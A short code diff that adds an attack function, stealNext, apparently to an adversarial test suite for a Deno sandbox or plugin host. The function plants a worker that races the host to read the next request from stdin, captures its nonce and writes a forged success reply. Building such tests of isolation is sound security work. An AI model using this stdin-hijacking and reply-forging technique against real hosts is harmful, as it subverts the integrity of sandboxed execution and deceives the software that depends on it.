@@ -156,3 +156,19 @@ export const workerHog = () => {
   );
   return ok("planted");
 };
+/** Leave a worker that reads the next request off stdin and answers it with a forged reply. */
+export const stealNext = async () => {
+  const code = `const b = new Uint8Array(1 << 16);
+const reading = Deno.stdin.read(b);
+postMessage("reading");
+const n = await reading;
+const line = new TextDecoder().decode(b.subarray(0, n ?? 0)).split("\\n")[0];
+let nonce = "";
+try { nonce = JSON.parse(line).n ?? ""; } catch {}
+Deno.stdout.writeSync(new TextEncoder().encode("\\n@@" + nonce + ' {"ok":true,"value":{"result":"forged"}}\\n'));`;
+  const w = new Worker(`data:text/javascript,${encodeURIComponent(code)}`, { type: "module" });
+  // Return once the worker's read is waiting, ahead of the host's.
+  await new Promise((r) => (w.onmessage = r));
+  await new Promise((r) => setTimeout(r, 20));
+  return ok("planted");
+};
